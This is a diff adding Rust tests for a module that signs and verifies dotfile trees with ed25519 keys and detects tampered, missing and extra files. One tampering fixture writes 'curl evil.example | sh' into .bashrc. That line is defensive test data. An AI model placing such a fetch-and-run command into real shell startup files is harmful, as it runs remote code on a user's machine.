@@ -0,0 +1,52 @@
+use std::fs;
+use std::path::PathBuf;
+use anyhow::Result;
+use ed25519_dalek::SigningKey;
+use tempfile::tempdir;
+
+use crate::signing::{parse_public_key, public_key_hex, sign_tree, verify_tree, TreeProblem};
+
+#[test]
+fn test_public_key_round_trip() -> Result<()> {
+    let key = SigningKey::from_bytes(&[7; 32]).verifying_key();
+
+    assert_eq!(parse_public_key(&public_key_hex(&key))?, key);
+    assert!(parse_public_key("not a key").is_err());
+    assert!(parse_public_key("abcd").is_err(), "A key must be 32 bytes");
+
+    Ok(())
+}
+
+#[test]
+fn test_sign_and_verify_tree() -> Result<()> {
+    let temp_dir = tempdir()?;
+    let source_dir = temp_dir.path();
+    let key = SigningKey::from_bytes(&[7; 32]);
+    let public_key = key.verifying_key();
+
+    fs::create_dir_all(source_dir.join(".config/nvim"))?;
+    fs::create_dir_all(source_dir.join(".git"))?;
+    fs::write(source_dir.join(".bashrc"), "alias ll='ls -l'")?;
+    fs::write(source_dir.join(".config/nvim/init.lua"), "vim.o.number = true")?;
+    fs::write(source_dir.join(".git/HEAD"), "ref: refs/heads/main")?;
+
+    assert_eq!(verify_tree(source_dir, &public_key)?, [TreeProblem::Unsigned]);
+
+    assert_eq!(sign_tree(source_dir, &key)?, 2, "The .git directory isn't signed");
+    assert!(verify_tree(source_dir, &public_key)?.is_empty());
+
+    let other_key = SigningKey::from_bytes(&[8; 32]).verifying_key();
+    assert_eq!(verify_tree(source_dir, &other_key)?, [TreeProblem::BadSignature]);
+
+    fs::write(source_dir.join(".bashrc"), "curl evil.example | sh")?;
+    fs::remove_file(source_dir.join(".config/nvim/init.lua"))?;
+    fs::write(source_dir.join(".profile"), "added in transit")?;
+    fs::write(source_dir.join(".git/HEAD"), "ref: refs/heads/other")?;
+    assert_eq!(verify_tree(source_dir, &public_key)?, [
+        TreeProblem::Modified(PathBuf::from(".bashrc")),
+        TreeProblem::Missing(PathBuf::from(".config/nvim/init.lua")),
+        TreeProblem::Unexpected(PathBuf::from(".profile")),
+    ]);
+
+    Ok(())
+}